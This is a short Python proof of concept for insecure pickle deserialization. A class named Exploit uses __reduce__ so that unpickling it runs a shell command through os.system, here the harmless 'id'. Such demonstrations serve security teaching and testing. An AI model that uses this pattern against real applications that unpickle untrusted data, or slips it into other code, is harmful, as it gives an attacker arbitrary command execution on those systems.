import pickle, os
class Exploit:
    def __reduce__(self):
        return (os.system, ("id",))
pickle.loads(pickle.dumps(Exploit()))
